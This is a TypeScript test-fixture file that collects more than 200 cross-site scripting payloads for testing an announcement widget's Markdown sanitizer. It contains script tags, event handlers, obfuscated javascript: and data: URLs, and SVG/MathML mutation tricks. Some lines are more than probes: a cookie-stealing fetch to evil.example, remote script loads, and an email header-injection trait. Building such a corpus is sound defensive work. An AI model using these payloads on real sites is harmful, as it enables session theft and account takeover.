/**
 * Hostile announcement content: at least 200 payloads, saved as announcement bodies by
 * the sanitizer's unit test, rendered by the widget's component test and (later) the Chromium e2e.
 * Sources: classic filter-evasion lists (script tags, event handlers, URL obfuscation), SVG/MathML
 * namespace confusion, mutation XSS, Markdown-specific link and reference tricks, and payloads that
 * only appear after `{{user.*}}` placeholders are filled with hostile traits.
 *
 * Pure data, no imports: the widget's tests load it by URL, outside their TypeScript program.
 */

/** URL forms browsers (or sloppy parsers) may run as script or open as a document. */
const DANGEROUS_URLS = [
  'javascript:alert(1)',
  'JAVASCRIPT:alert(1)',
  'JaVaScRiPt:alert(1)',
  ' javascript:alert(1)',
  '\tjavascript:alert(1)',
  'java\tscript:alert(1)',
  'java\nscript:alert(1)',
  'java\rscript:alert(1)',
  'java\u0000script:alert(1)',
  '\u0001javascript:alert(1)',
  'javascript\t:alert(1)',
  'javascript&colon;alert(1)',
  '&#106;avascript:alert(1)',
  '&#x6A;avascript:alert(1)',
  '&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058alert(1)',
  'jav&#x09;ascript:alert(1)',
  'jav&#x0A;ascript:alert(1)',
  '%6Aavascript:alert(1)',
  'javascript%3Aalert(1)',
  'javascript://%0Aalert(1)',
  'javascript://comment%0dalert(1)',
  'javascript:/*--></title></style></textarea></script><svg/onload=alert(1)>',
  'javascript:void(0)',
  'javascript:fetch(`//evil.example?c=${document.cookie}`)',
  'data:text/html,<script>alert(1)</script>',
  'data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==',
  'DATA:text/html,<script>alert(1)</script>',
  'data:image/svg+xml,<svg onload=alert(1)>',
  'data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+',
  'data:application/javascript,alert(1)',
  ' data:text/html,x',
  'vbscript:msgbox(1)',
  'VBScript:msgbox(1)',
  'livescript:alert(1)',
  'file:///etc/passwd',
  'blob:https://evil.example/1',
  'filesystem:https://evil.example/temporary/x',
  'ws://evil.example',
  'jar:https://evil.example!/',
  '//evil.example/x',
  '\\\\evil.example/x',
  '/\\evil.example',
  'https:alert(1)',
  'x:alert(1)',
  'about:blank',
  'chrome://settings',
  '{{user.website}}',
  '{{ user.website | "javascript:alert(1)" }}',
] as const;

/** Markup that must never become elements, with or without Markdown around it. */
const HTML_PAYLOADS = [
  '<script>alert(1)</script>',
  '<SCRIPT SRC=https://evil.example/x.js></SCRIPT>',
  '<script\x20type="text/javascript">alert(1)</script>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<<script>alert(1)//<</script>',
  '<script/src=data:,alert(1)></script>',
  '<img src=x onerror=alert(1)>',
  '<IMG SRC=javascript:alert(1)>',
  '<img src="x" onerror="alert(1)"/>',
  '<img src=x:alert(1) onerror=eval(src)>',
  '<img """><script>alert(1)</script>">',
  '<img src=`x`onerror=alert(1)>',
  '<image src=x onerror=alert(1)>',
  '<svg onload=alert(1)>',
  '<svg/onload=alert(1)>',
  '<svg><script>alert(1)</script></svg>',
  '<svg><a xlink:href="javascript:alert(1)"><text x="20" y="20">x</text></a></svg>',
  '<svg><animate onbegin=alert(1) attributeName=x dur=1s>',
  '<svg><set attributeName="href" to="javascript:alert(1)"/></svg>',
  '<svg><foreignObject><iframe src=javascript:alert(1)></iframe></foreignObject></svg>',
  '<svg><style><img src=x onerror=alert(1)></style></svg>',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
  '<math><mi xlink:href="javascript:alert(1)">x</mi></math>',
  '<body onload=alert(1)>',
  '<iframe src="javascript:alert(1)"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<object data="javascript:alert(1)"></object>',
  '<embed src="javascript:alert(1)">',
  '<a href="javascript:alert(1)">click</a>',
  '<a href=" &#14;javascript:alert(1)">click</a>',
  '<a href="jav&#x09;ascript:alert(1)">click</a>',
  '<a onmouseover=alert(1)>hover</a>',
  '<div onclick="alert(1)">x</div>',
  '<div style="background:url(javascript:alert(1))">x</div>',
  '<div style="width: expression(alert(1))">x</div>',
  '<input autofocus onfocus=alert(1)>',
  '<select autofocus onfocus=alert(1)>',
  '<textarea autofocus onfocus=alert(1)>',
  '<keygen autofocus onfocus=alert(1)>',
  '<video><source onerror=alert(1)>',
  '<audio src=x onerror=alert(1)>',
  '<details open ontoggle=alert(1)>',
  '<marquee onstart=alert(1)>',
  '<form action="javascript:alert(1)"><button>x</button></form>',
  '<button formaction="javascript:alert(1)">x</button>',
  '<isindex type=image src=1 onerror=alert(1)>',
  '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
  '<base href="javascript:alert(1)//">',
  '<link rel=import href="https://evil.example/x.html">',
  '<style>@import "https://evil.example/x.css";</style>',
  '<style>*{background:url("javascript:alert(1)")}</style>',
  '<table background="javascript:alert(1)">',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<noembed><img title="</noembed><img src=x onerror=alert(1)>"></noembed>',
  '<template><script>alert(1)</script></template>',
  '<xmp><img src=x onerror=alert(1)></xmp>',
  '<listing>&lt;img src=x onerror=alert(1)&gt;</listing>',
  '<plaintext><img src=x onerror=alert(1)>',
  '<!--<img src="--><img src=x onerror=alert(1)//">',
  '<![CDATA[<script>alert(1)</script>]]>',
  '<?xml version="1.0"?><script>alert(1)</script>',
  '<form><math><mtext></form><form><mglyph><svg><mtext><style><path id="</style><img onerror=alert(1) src>">',
  '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
  '<math><mtext><h1><a><h6></a></h6><mglyph><svg><mtext><style><a title="</style><img src onerror=alert(1)>">',
  '<a id="x"><img name="createElement"></a>',
  '<form id="test"><input name="innerHTML"></form>',
  '<img src=x onerror=&#97;&#108;&#101;&#114;&#116;(1)>',
  '<img src=x onerror=\\u0061lert(1)>',
  '<a href="&#x6A;&#x61;&#x76;&#x61;&#x73;&#x63;&#x72;&#x69;&#x70;&#x74;&#x3A;alert(1)">x</a>',
  '<img src=x onerror="javascript:alert(1)"',
  '<img\nsrc=x\nonerror=alert(1)>',
  '<img src=x onerror\n=alert(1)>',
  '<svg><script xlink:href=data:,alert(1)></script></svg>',
  '<x onpointerenter=alert(1)>x</x>',
  '<custom-element onclick=alert(1)>x</custom-element>',
  '"><script>alert(1)</script>',
  "'><img src=x onerror=alert(1)>",
  '</title><script>alert(1)</script>',
  '</textarea><script>alert(1)</script>',
  '</style><script>alert(1)</script>',
  '</script><script>alert(1)</script>',
] as const;

/** Markdown constructs that smuggle URLs or markup through the Markdown layer itself. */
function markdownPayloads(): string[] {
  const out: string[] = [];
  for (const url of DANGEROUS_URLS) {
    out.push(`[click](${url})`, `![img](${url})`, `[ref][r]\n\n[r]: ${url}`, `<${url}>`);
  }
  out.push(
    '[x](javascript:alert(1) "title")',
    '[x](<javascript:alert(1)>)',
    '[x]( javascript:alert(1))',
    '[x](javascript&#58;alert(1))',
    '[x](javas&#99;ript:alert(1))',
    '[x](javascript:alert%281%29)',
    '[x](https://ok.example "x\\" onmouseover=\\"alert(1)")',
    '[x](https://ok.example "<script>alert(1)</script>")',
    '![x" onerror="alert(1)](https://ok.example/a.png)',
    '![x](https://ok.example/a.png "\\" onerror=\\"alert(1)")',
    '[<img src=x onerror=alert(1)>](https://ok.example)',
    '[![x](javascript:alert(1))](https://ok.example)',
    '[[x](javascript:alert(1))](https://ok.example)',
    '**<script>alert(1)</script>**',
    '_<img src=x onerror=alert(1)>_',
    '`<script>alert(1)</script>`',
    '```html\n<script>alert(1)</script>\n```',
    '```javascript" onclick="alert(1)\nx\n```',
    '# <svg onload=alert(1)>',
    '- <img src=x onerror=alert(1)>\n- [x](javascript:alert(1))',
    '> <script>alert(1)</script>',
    '> > > > > > > > > > > > > > > > [deep](javascript:alert(1))',
    '<div>\n\n[x](javascript:alert(1))\n\n</div>',
    '<details>\n<summary>x</summary>\n\n<img src=x onerror=alert(1)>\n</details>',
    '&lt;script&gt;alert(1)&lt;/script&gt;',
    '&#60;script&#62;alert(1)&#60;/script&#62;',
    '\\<script>alert(1)\\</script>',
    'hello <b onmouseover=alert(1)>bold</b> world',
    'line  \n<img src=x onerror=alert(1)>',
    '{{user.firstName}}',
    '{{ user.bio | "<img src=x onerror=alert(1)>" }}',
    '[{{user.name}}](https://ok.example/{{user.id}})',
    '![{{user.name}}](https://ok.example/{{user.avatar}}.png)',
    // Email: a trait with line breaks must not add headers, and a filled link is checked again.
    'Hi {{user.company}}, [open your account]({{user.website}})',
    '**{{user.company | "friend"}}**, [unsubscribe](https://ok.example/u?x={{user.bio}})',
  );
  return out;
}

export interface XssCase {
  /** Short label for test output. */
  name: string;
  /** The announcement body as a product manager might paste it. */
  markdown: string;
}

/** Every case: raw, as Markdown, and inside Markdown constructs. */
export const XSS_CORPUS: readonly XssCase[] = [
  ...HTML_PAYLOADS.map((markdown, i) => ({ name: `html-${i}`, markdown })),
  ...HTML_PAYLOADS.map((payload, i) => ({ name: `html-inline-${i}`, markdown: `Some text ${payload} more text` })),
  ...markdownPayloads().map((markdown, i) => ({ name: `md-${i}`, markdown })),
];

/** Dangerous URLs on their own, for slots that take a URL directly (CTA, image, trait-filled links). */
export const XSS_URLS: readonly string[] = DANGEROUS_URLS;

/**
 * Trait values a hostile user could set through `identify`; filled into `{{user.*}}` placeholders.
 * They must stay text in the DOM, and a URL they complete must be checked again after filling.
 */
export const XSS_TRAITS: Readonly<Record<string, string>> = {
  firstName: '<img src=x onerror=alert(1)>',
  name: '<script>alert(1)</script>',
  bio: '"><svg onload=alert(1)>',
  website: 'javascript:alert(1)',
  id: '../../javascript:alert(1)',
  avatar: 'x" onerror="alert(1)',
  company: 'Acme\r\nBcc: victim@evil.example\r\n\r\n<script>alert(1)</script>',
};
